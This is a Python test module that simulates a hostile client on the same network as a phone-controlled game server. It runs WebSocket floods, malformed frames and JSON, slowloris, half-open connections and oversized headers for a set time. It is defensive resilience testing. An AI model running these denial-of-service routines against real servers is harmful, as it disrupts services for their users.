"""What somebody in the same network could do to the phones: `python -m tests.phones.attacks NAME HOST CODE SECONDS`."""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from itertools import count
from typing import Final

ADDRESS: Final = "127.6.6.6"  # where the attacker is
KEY: Final = "dGhlIHNhbXBsZSBub25jZQ=="
TEXT, BINARY, PING, CONTINUED = 1, 2, 9, 0


def frame(kind: int, data: bytes, last: bool = True, told: int | None = None) -> bytes:
    """A frame as a browser sends it; `told` is the length that it says it has."""
    length = len(data) if told is None else told
    head = bytes([(0x80 if last else 0) | kind])
    if length < 126:
        head += bytes([0x80 | length])
    elif length < 65536:
        head += b"\xfe" + struct.pack("!H", length)
    else:
        head += b"\xff" + struct.pack("!Q", length)
    return head + bytes(4) + data  # a mask of zeros changes nothing


class Attacker:
    """Connections to one host."""

    def __init__(self, host: str, code: str) -> None:
        self.host = host
        name, port = host.split(":")
        self._where = name, int(port)
        self.hello = json.dumps({"k": "hello", "v": 1, "room": code}).encode()

    def connect(self) -> socket.socket:
        return socket.create_connection(self._where, 2, (ADDRESS, 0))

    def upgraded(self) -> socket.socket:
        """A connection after its handshake and its hello."""
        line = self.connect()
        line.sendall(
            f"GET /ws HTTP/1.1\r\nHost: {self.host}\r\nOrigin: http://{self.host}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {KEY}\r\n\r\n".encode()
        )
        line.recv(4096)
        line.sendall(frame(TEXT, self.hello))
        return line


Step = Iterator[None]  # an attack, a step at a time


def pour(attacker: Attacker, data: bytes) -> Step:
    """Send the same again and again, on a new connection whenever one is closed."""
    while True:
        with suppress(OSError):
            line = attacker.upgraded()
            while True:
                line.sendall(data)
                yield
        yield


def flood(attacker: Attacker) -> Step:
    return pour(attacker, frame(TEXT, b'{"k":"press","b":"left","d":1}') * 40)


def pings(attacker: Attacker) -> Step:
    return pour(attacker, frame(PING, b"x" * 20) * 60)


def garbage(attacker: Attacker) -> Step:
    return pour(attacker, os.urandom(4096))


def bad_json(attacker: Attacker) -> Step:
    for number in count():
        with suppress(OSError):
            line = attacker.upgraded()
            line.sendall(frame(TEXT, (b"[" * 1500, b'{"k":"\xff"}', b'{"k":"set","name":3}')[number % 3]))
            line.recv(4096)
            line.close()
        yield


def large_frames(attacker: Attacker) -> Step:
    return pour(attacker, frame(TEXT, b" " * 1_000_000))


def fragments(attacker: Attacker) -> Step:
    return pour(attacker, frame(TEXT, b"[", last=False) + frame(CONTINUED, b"1,", last=False) * 100)


def half_open(attacker: Attacker) -> Step:
    lines = []
    while True:
        with suppress(OSError):
            lines.append(attacker.connect())
        if len(lines) > 200:
            lines.pop(0).close()
        yield


def slow_loris(attacker: Attacker) -> Step:
    lines: list[socket.socket] = []
    while True:
        with suppress(OSError):
            if len(lines) < 60:
                line = attacker.connect()
                line.sendall(b"GET / HTTP/1.1\r\n")
                lines.append(line)
        for line in list(lines):
            try:
                line.sendall(b"X")
            except OSError:
                lines.remove(line)
        yield


def never_reads(attacker: Attacker) -> Step:
    """Ask for pages and read none, beside connections that are open and read nothing either."""
    lines: list[socket.socket] = []
    while True:
        with suppress(OSError):
            line = attacker.upgraded() if len(lines) % 2 else attacker.connect()
            line.sendall(f"GET /fonts/text.woff2 HTTP/1.1\r\nHost: {attacker.host}\r\n\r\n".encode())
            lines.append(line)
        if len(lines) > 60:
            lines.pop(0).close()
        yield


def come_and_go(attacker: Attacker) -> Step:
    while True:
        with suppress(OSError):
            attacker.upgraded().close()
        yield


def long_header(attacker: Attacker) -> Step:
    line = b"X: " + b"x" * 1000 + b"\r\n"
    while True:
        with suppress(OSError):
            way = attacker.connect()
            way.sendall(b"GET / HTTP/1.1\r\n")
            for _ in range(1000):
                way.sendall(line)
        yield


def spin(attacker: Attacker) -> Step:
    """No attack: only a process that takes as much of the computer."""
    while True:
        sum(range(10_000))
        yield


ATTACKS: Final[Mapping[str, Callable[[Attacker], Step]]] = {
    attack.__name__: attack
    for attack in (
        *(flood, pings, garbage, bad_json, large_frames, fragments),
        *(half_open, slow_loris, never_reads, come_and_go, long_header),
    )
}


def main() -> None:
    name, host, code, seconds = sys.argv[1:]
    steps, end = {**ATTACKS, "spin": spin}[name](Attacker(host, code)), time.monotonic() + float(seconds)
    while time.monotonic() < end:
        next(steps)


if __name__ == "__main__":
    main()
